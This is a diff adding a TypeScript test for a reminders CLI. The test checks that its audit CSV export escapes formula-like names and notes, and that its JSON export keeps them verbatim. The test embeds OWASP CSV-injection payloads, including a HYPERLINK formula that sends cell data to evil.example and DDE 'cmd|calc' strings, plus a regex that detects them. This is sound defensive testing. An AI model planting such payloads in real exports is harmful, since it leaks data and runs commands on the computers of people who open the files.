@@ -6,7 +6,9 @@ import { join } from 'node:path';
 import { loadCatalog } from '../../src/catalog/catalog.loader';
 import { ReminderService } from '../../src/reminders/reminder.service';
 import { openStore, parseDatabaseUrl } from '../../src/storage/database';
+import { recordPosted } from '../../src/storage/occurrence.repository';
 import { enqueue, listOutbox, markDead } from '../../src/storage/outbox.repository';
+import { parseCsv } from '../support/csv';
 import { runCli, startServiceExpectingFailure } from '../support/process';
 
 const BAD_CATALOG = `teams:
@@ -109,6 +111,40 @@ describe('soc-reminders CLI', () => {
     expect(retried.stdout.trim()).toBe('1 delivery queued again');
     expect(runCli(['outbox', 'list', '--failed'], { DATABASE_URL: dbFile }).stdout.trim()).toBe('no dead-lettered deliveries');
     expect(runCli(['outbox', 'retry', String(item.id)], { DATABASE_URL: dbFile }).code).toBe(1);
+  });
+
+  it('exports formula-like names and notes so that a spreadsheet shows them as text, and JSON as typed', async () => {
+    const dbFile = join(dir, 'hostile.db');
+    const store = await openStore(parseDatabaseUrl(dbFile));
+    const catalog = loadCatalog({ defaultTimezone: 'UTC' });
+    const reminders = new ReminderService({ db: store.db, catalog, clock: { now: () => Date.parse('2026-03-09T10:00:00Z') } });
+    // A display name and a Done note as anyone in the tenant can type them (OWASP's CSV injection payloads).
+    const name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+    const note = "@SUM(1+9)*cmd|' /C calc'!A0";
+    // A leading blank does not save a cell: spreadsheets trim it.
+    const closer = '  -1+cmd|calc';
+    const [o] = (await reminders.runOnDemand('tenant-a', 'ir-tabletop-exercise', 'secops', { userId: '29:mallory', name })).occurrences;
+    await recordPosted(store.db, o.id, Date.parse('2026-03-09T10:01:00Z'), { conversationId: '19:c@thread.tacv2;messageid=1', activityId: '1', serviceUrl: 'https://smba.test/' });
+    await reminders.complete('tenant-a', o.id, { userId: '29:mallory', name: closer }, note, { isSameConversation: () => true });
+    await store.close();
+
+    const csv = runCli(['audit', 'export', '--format', 'csv'], { DATABASE_URL: dbFile });
+    expect(csv.code).toBe(0);
+    const [header, ...rows] = parseCsv(csv.stdout);
+    const col = (h: string) => header.indexOf(h);
+    expect(rows.map((r) => [r[col('type')], r[col('name')], r[col('note')]])).toEqual([
+      ['created', `'${name}`, 'on demand'],
+      ['done', `'${closer}`, `'${note}`],
+    ]);
+    // No cell of the export starts, after blanks, with a character that makes a spreadsheet evaluate it.
+    for (const cell of rows.flat()) expect([cell, /^[ \u00A0\n]*[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);
+
+    // JSON is for programs: the text is exactly what was typed.
+    const json = JSON.parse(runCli(['audit', 'export', '--format', 'json'], { DATABASE_URL: dbFile }).stdout) as { name: string; note: string }[];
+    expect(json.map((e) => [e.name, e.note])).toEqual([
+      [name, 'on demand'],
+      [closer, note],
+    ]);
   });
 });
 
